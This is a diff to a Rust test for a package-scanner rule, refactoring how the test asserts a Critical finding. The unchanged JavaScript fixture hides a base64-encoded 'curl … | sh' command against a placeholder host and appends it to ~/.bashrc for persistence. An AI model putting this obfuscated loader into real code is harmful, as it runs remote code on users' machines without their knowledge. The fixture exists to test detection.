@@ -303,7 +303,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
 #[cfg(test)]
 mod rc_tests {
     use crate::model::Severity;
-    use crate::rules::testing::run;
+    use crate::rules::testing::{first_severity, run};
 
     /// A CLI bundle that appends its completion line to ~/.zshrc on request, and far away in
     /// other modules names `curl` (a MIME table) and `options.profile` (@codspeed/core 5.7.1,
@@ -329,12 +329,8 @@ mod rc_tests {
             const rc = os.homedir() + '/.bashrc';\n\
             const line = Buffer.from('Y3VybCAtcyBodHRwczovL2guZXhhbXBsZS94IHwgc2g=', 'base64').toString();\n\
             fs.appendFileSync(rc, '\\n' + line + '\\n');\n";
-        let hits = run(&super::RULE, "index.js", src);
-        assert_eq!(
-            hits.first().map(|h| h.severity),
-            Some(Severity::Critical),
-            "{hits:?}"
-        );
+        let (severity, hits) = first_severity(&super::RULE, "index.js", src);
+        assert_eq!(severity, Some(Severity::Critical), "{hits}");
     }
 }
 
